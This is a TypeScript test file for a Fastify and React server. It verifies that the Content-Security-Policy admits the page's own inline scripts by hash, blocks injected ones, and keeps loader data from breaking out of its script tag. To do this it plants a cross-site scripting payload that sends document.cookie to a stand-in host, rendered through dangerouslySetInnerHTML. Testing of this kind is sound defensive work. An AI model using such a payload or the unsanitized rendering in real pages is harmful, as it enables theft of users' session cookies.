import { createHash } from "node:crypto";
import Fastify, { type FastifyInstance } from "fastify";
import { createElement } from "react";
import { afterAll, beforeAll, expect, test } from "vitest";
import { registerTestPages } from "#server/testing/test-pages.ts";
import * as entry from "#web/entry.server.tsx";
import * as root from "#web/root.tsx";

const planted = "fetch('https://elsewhere.example/?'+document.cookie)";
const hostile = `<p>Text</p><script>${planted}</script><script nonce="">${planted}</script><script nonce="guess">${planted}</script>`;

/** Renders a screen with unsanitized text in the real root by the real renderer. */
const screen = {
  loader: () => ({ hostile: `</script>${hostile}` }),
  // biome-ignore lint/security/noDangerouslySetInnerHtml: the test's subject
  default: () => createElement("div", { dangerouslySetInnerHTML: { __html: hostile } }),
};

const getPaymentConfig = async () => ({ publishableKey: "", stripeJsUrl: "" });

let app: FastifyInstance;
beforeAll(async () => {
  app = Fastify();
  const calls = { listCategoryPremiums: async () => ({ data: [] }), getPaymentConfig };
  await registerTestPages(app, { entry, root, screen, calls });
});
afterAll(() => app.close());

const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script).digest("base64")}'`;

test("the policy allows the page's own inline scripts and blocks injected ones", async () => {
  const { statusCode, body, headers } = await app.inject("/x");
  expect(statusCode).toBe(200);
  const policy = String(headers["content-security-policy"]);
  const inline = [...body.matchAll(/<script(?![^>]*(?: src=|"application\/json"))[^>]*>([\s\S]*?)<\/script>/g)].map(
    ([, code = ""]) => code,
  );
  const [foreign, own] = [inline.filter((code) => code === planted), inline.filter((code) => code !== planted)];
  // Theme, scroll position, the framework's context, the loaders' data and the entry module.
  expect([foreign.length, own.length >= 4]).toEqual([3, true]);
  for (const code of own) expect(policy, code.slice(0, 60)).toContain(hashOf(code));
  expect(policy).not.toContain(hashOf(planted));
  const scriptSource = policy.split("; ").find((directive) => directive.startsWith("script-src ")) ?? "";
  expect(scriptSource.match(/'sha256-/g)).toHaveLength(new Set(own).size);
});

test("a loader's data cannot end the script that holds it", async () => {
  const { body } = await app.inject("/x");
  // Three injected into the screen's own HTML.
  expect(body.split(planted)).toHaveLength(1 + 3 + 3);
  expect(body.split(`<script>${planted}`)).toHaveLength(2);
});

test("renders the same page to the same bytes, tag and policy", async () => {
  const [first, second] = [await app.inject("/x"), await app.inject("/x")];
  expect(first.body).toBe(second.body);
  expect(first.headers).toMatchObject({
    etag: second.headers.etag,
    "content-security-policy": second.headers["content-security-policy"],
  });
});
